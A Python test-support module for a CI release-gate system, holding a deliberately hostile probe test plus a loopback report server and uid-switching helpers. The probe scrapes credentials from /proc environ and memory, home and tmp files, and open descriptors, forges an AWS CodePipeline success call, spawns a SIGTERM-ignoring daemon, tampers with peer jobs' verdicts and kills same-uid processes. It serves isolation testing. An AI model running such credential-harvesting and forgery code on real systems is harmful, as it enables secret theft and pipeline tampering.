"""The attacker's side of the trust tests (SPEC §13): a probe test shipped in a job's
artifact, a loopback server it reports to, and the set-up that lets gate children
run as other uids (a world-readable interpreter, a traversable work directory).

The probe is a pytest test of the project under test. It looks for the needles
(credential values the test planted) by every route it has — its environment,
``/proc/*/environ|cmdline|mem``, its home directory, inherited descriptors —,
tries to put a success on its own job, starts a ``setsid`` daemon that ignores
SIGTERM, tries the other concurrent job's directory, kills what it can, reports
it all, and fails, so that the gate's own result is a failure.
"""

from __future__ import annotations

import json
import os
import random
import shutil
import stat
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[2]

PROBE_TEST = r'''
import json, os, signal, subprocess, sys, time, urllib.error, urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "probe_config.json")) as f:
    CFG = json.load(f)
NEEDLES = [n.encode() for n in CFG["needles"]]
ME = os.getpid()


def call(path, data=None):
    body = None if data is None else json.dumps(data).encode()
    request = urllib.request.Request(CFG["report"] + path, data=body, method="POST" if body else "GET")
    with urllib.request.urlopen(request, timeout=10) as answer:
        return json.loads(answer.read() or b"null")


def hits(blob):
    return sorted(n.decode() for n in NEEDLES if n in blob)


def pids():
    return [int(p) for p in os.listdir("/proc") if p.isdigit()]


def read_mem(pid, budget=256 << 20):
    """Every readable mapping of pid (up to budget bytes); None when mem cannot be opened."""
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        return None
    chunks, used, any_read = [], 0, False
    with mem:
        for line in maps:
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith("r"):
                continue
            if len(parts) >= 6 and parts[5].startswith("[v"):
                continue  # [vvar], [vsyscall]
            start, end = (int(x, 16) for x in parts[0].split("-"))
            size = min(end - start, budget - used)
            if size <= 0:
                break
            try:
                mem.seek(start)
                chunks.append(mem.read(size))
                any_read = True
                used += size
            except (OSError, OverflowError, ValueError):
                continue
    return b"".join(chunks) if any_read else None


def test_probe():
    found = {}
    report = {"token": CFG["token"], "pid": ME, "ppid": os.getppid(), "uid": os.getuid()}

    def note(route, blob):
        h = hits(blob)
        if h:
            found.setdefault(route, sorted(set(found.get(route, [])) | set(h)))

    note("environment", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
    readable = {"environ": [], "cmdline": [], "mem": []}
    # Memory: its ancestors and the processes of its own uid (no other uid's memory is
    # readable without CAP_SYS_PTRACE; and a scan of a whole machine proves nothing).
    ancestors, pid = set(), os.getppid()
    while pid > 1 and pid not in ancestors:
        ancestors.add(pid)
        try:
            with open(f"/proc/{pid}/status") as f:
                pid = int(next(x for x in f if x.startswith("PPid:")).split()[1])
        except (OSError, StopIteration, ValueError):
            break
    for pid in pids():
        if pid == ME:
            continue
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    blob = f.read()
            except OSError:
                continue
            readable[what].append(pid)
            note(f"/proc/*/{what}", blob)
        try:
            own = os.getuid() != 0 and os.stat(f"/proc/{pid}").st_uid == os.getuid()
        except OSError:
            continue
        if pid in ancestors or own:
            blob = read_mem(pid)
            if blob is not None:
                readable["mem"].append(pid)
                note("/proc/*/mem", blob)
    ppid = os.getppid()
    report["parent_environ_readable"] = ppid in readable["environ"]
    report["parent_mem_readable"] = ppid in readable["mem"]
    report["parent_cmdline_readable"] = ppid in readable["cmdline"]

    home = os.path.expanduser("~")
    report["home"] = home
    seen = 0
    for top in {home, os.environ.get("TMPDIR") or "/tmp"}:
        for dirpath, _dirs, files in os.walk(top):
            for name in files:
                seen += 1
                if seen > 5000:
                    break
                try:
                    with open(os.path.join(dirpath, name), "rb") as f:
                        note("home and tmp", f.read(1 << 20))
                except OSError:
                    pass
    for fd in os.listdir("/proc/self/fd"):
        try:
            note("inherited descriptors", os.pread(int(fd), 1 << 20, 0))
        except OSError:
            pass

    # Forge: put a success on this job with whatever key was found (none: a made-up one).
    job_id = call("/job/" + CFG["token"])
    keys = [n for n in CFG["needles"] if n.startswith(("AKIA", "ASIA"))]
    key = next((k for v in found.values() for k in v if k in keys), "AKIAPROBEFORGED00000")
    forge = urllib.request.Request(
        CFG["endpoint"],
        data=json.dumps({"jobId": job_id, "executionDetails": {"summary": "forged"}}).encode(),
        headers={
            "X-Amz-Target": "CodePipeline_20150709.PutJobSuccessResult",
            "Content-Type": "application/x-amz-json-1.1",
            "Authorization": f"AWS4-HMAC-SHA256 Credential={key}/20260101/us-east-1/"
            "codepipeline/aws4_request, SignedHeaders=host, Signature=" + "0" * 64,
        },
        method="POST",
    )
    try:
        with urllib.request.urlopen(forge, timeout=10) as answer:
            report["forge_status"] = answer.status
    except urllib.error.HTTPError as exc:
        report["forge_status"] = exc.code
        report["forge_error"] = json.loads(exc.read() or b"{}").get("__type")

    # A daemon of its own session that ignores SIGTERM and outlives the test.
    daemon = (
        "import os, signal, sys, time\n"
        "if os.fork(): sys.exit(0)\n"
        "os.setsid()\n"
        "if os.fork(): os._exit(0)\n"
        "signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "print(os.getpid(), flush=True)\n"
        "time.sleep(600)\n"
    )
    starter = subprocess.Popen(
        [sys.executable, "-c", daemon], stdout=subprocess.PIPE, start_new_session=True
    )
    report["daemon"] = int(starter.stdout.readline())
    starter.wait(timeout=30)

    # The other job(s): where they live, and whether this one can read or write there.
    src = os.getcwd()
    report["dirs"] = {"src": src, "out": os.path.join(os.path.dirname(src), "out")}
    call("/arrive/" + CFG["token"], report["dirs"])
    peers = {}
    deadline = time.monotonic() + 60
    while CFG["peers"] and time.monotonic() < deadline:
        peers = {k: v for k, v in call("/arrivals").items() if k != CFG["token"]}
        if len(peers) >= CFG["peers"]:
            break
        time.sleep(0.1)
    reach = {}
    for token, dirs in peers.items():
        got = {}
        try:
            os.listdir(dirs["src"])
            got["list"] = True
        except OSError as exc:
            got["list"] = exc.strerror
        try:
            with open(os.path.join(dirs["src"], "test_probe.py"), "rb") as f:
                got["read"] = bool(f.read(10))
        except OSError as exc:
            got["read"] = exc.strerror
        try:
            with open(os.path.join(dirs["out"], "verdict.json"), "w") as f:
                f.write('{"verdict": "pass"}')
            got["write"] = True
        except OSError as exc:
            got["write"] = exc.strerror
        reach[token] = got
    report["peers"] = reach
    # Give the peers time to try this job's directory before anything ends.
    call("/tried/" + CFG["token"], {})
    deadline = time.monotonic() + 60
    while CFG["peers"] and time.monotonic() < deadline:
        if len(call("/tried_all")) > CFG["peers"]:
            break
        time.sleep(0.1)

    # Kill what it can see: its parent (the worker) and every process of its own uid.
    # Never as root (root could kill the machine's every process: that proves nothing).
    killed = []
    if CFG["kill"] and os.getuid() != 0:
        targets = {ppid}
        for pid in pids():
            try:
                with open(f"/proc/{pid}/status") as f:
                    uid_line = next(x for x in f if x.startswith("Uid:"))
            except (OSError, StopIteration):
                continue
            if int(uid_line.split()[1]) == os.getuid():
                targets.add(pid)
        for pid in sorted(targets - {ME, report["daemon"]}):
            try:
                os.kill(pid, signal.SIGKILL)
                killed.append(pid)
            except OSError:
                pass
    report["killed"] = killed
    report["found"] = found
    call("/report/" + CFG["token"], report)
    assert False, "the probe fails its job on purpose: the gate's result must be a failure"
'''


class ReportServer:
    """A loopback HTTP server the probes report to (one per test)."""

    def __init__(self) -> None:
        self.jobs: dict[str, str] = {}
        self.reports: dict[str, dict[str, Any]] = {}
        self.arrivals: dict[str, Any] = {}
        self.tried: dict[str, Any] = {}
        self._lock = threading.Lock()
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:
                pass

            def _answer(self, payload: object) -> None:
                data = json.dumps(payload).encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_GET(self) -> None:
                _, kind, *rest = self.path.split("/")
                with outer._lock:
                    if kind == "job":
                        self._answer(outer.jobs.get(rest[0]))
                    elif kind == "arrivals":
                        self._answer(dict(outer.arrivals))
                    elif kind == "tried_all":
                        self._answer(list(outer.tried))
                    else:
                        self._answer(None)

            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = json.loads(self.rfile.read(length) or b"null")
                _, kind, token = self.path.split("/")
                with outer._lock:
                    {"report": outer.reports, "arrive": outer.arrivals, "tried": outer.tried}[kind][
                        token
                    ] = body
                self._answer(None)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> ReportServer:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(timeout=5)


def probe_files(
    token: str,
    *,
    report: str,
    endpoint: str,
    needles: list[str],
    peers: int = 0,
    kill: bool = True,
) -> dict[str, str]:
    """A project whose one test is the probe (the policy: no failing tests)."""
    from ..aws.publish_support import PASSING_POLICY

    config = {
        "token": token,
        "report": report,
        "endpoint": endpoint,
        "needles": needles,
        "peers": peers,
        "kill": kill,
    }
    return {
        "pyproject.toml": PASSING_POLICY,
        "probe_config.json": json.dumps(config),
        "test_probe.py": PROBE_TEST,
    }


# -- other uids -------------------------------------------------------------------------


def traversable(path: Path) -> bool:
    """Whether other users can reach ``path`` (every directory above it has o+x)."""
    return all(p.stat().st_mode & stat.S_IXOTH for p in (path, *path.parents) if p.exists())


def as_uid(uid: int, *command: str) -> list[str]:
    """``command`` run as ``uid:uid`` with no supplementary groups (util-linux setpriv)."""
    return ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", *command]


def _base_interpreters() -> Iterator[str]:
    version = f"{sys.version_info.major}.{sys.version_info.minor}"
    base = getattr(sys, "_base_executable", None)
    if base:
        yield os.path.realpath(base)
    for candidate in (f"/usr/bin/python{version}", f"/usr/local/bin/python{version}"):
        if os.path.exists(candidate):
            yield candidate


def build_world_python(root: Path, uid: int) -> tuple[str | None, str]:
    """A venv under ``root`` (a world-readable directory) whose interpreter other uids
    can run, with this venv's packages and this checkout importable; (python, "") or
    (None, why not). The base interpreter must be reachable by other users (an image
    that installs Python under /root is not: see docs/worker.md)."""
    if not shutil.which("setpriv"):
        return None, "setpriv (util-linux) is not installed"
    site_packages = next(p for p in sys.path if p.endswith("site-packages"))
    problems = []
    for base in _base_interpreters():
        venv = root / f"venv-{abs(hash(base)) % 10_000}"
        made = subprocess.run(
            [base, "-m", "venv", "--without-pip", str(venv)],
            capture_output=True,
            check=False,
            timeout=120,
        )
        if made.returncode != 0:
            problems.append(f"{base}: {made.stderr.decode(errors='replace').strip()[-200:]}")
            continue
        (own,) = venv.glob("lib/python*/site-packages")
        (own / "releasegate-tests.pth").write_text(
            f"import site; site.addsitedir({site_packages!r})\n"
        )
        for path in (venv, *venv.rglob("*")):
            if not path.is_symlink():
                path.chmod(0o755 if path.is_dir() or os.access(path, os.X_OK) else 0o644)
        python = str(venv / "bin" / "python")
        # As the worker starts its children (setpriv may still hold capabilities while
        # it execs, and so reach an interpreter the uid itself could not).
        try:
            check = subprocess.run(
                [python, "-c", "import pytest, pytest_releasegate"],
                env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(REPO)},
                cwd="/",
                user=uid,
                group=uid,
                extra_groups=[],
                capture_output=True,
                check=False,
                timeout=120,
            )
        except OSError as exc:
            problems.append(f"{base}: {exc}")
            continue
        if check.returncode == 0:
            return python, ""
        problems.append(f"{base}: {check.stderr.decode(errors='replace').strip()[-300:]}")
    return None, "no interpreter other uids can run: " + "; ".join(problems)


def world_dir(prefix: str, mode: int = 0o711, owner: int | None = None) -> Path:
    """A new directory under the system's /tmp (outside pytest's private basetemp)."""
    path = Path(tempfile.mkdtemp(prefix=prefix, dir="/tmp"))
    path.chmod(mode)
    if owner is not None:
        os.chown(path, owner, owner)
    return path


def uid_block(size: int = 16) -> range:
    """A block of uids nobody else on this machine is likely to use right now."""
    base = random.randrange(200_000, 2_000_000, size)
    return range(base, base + size)
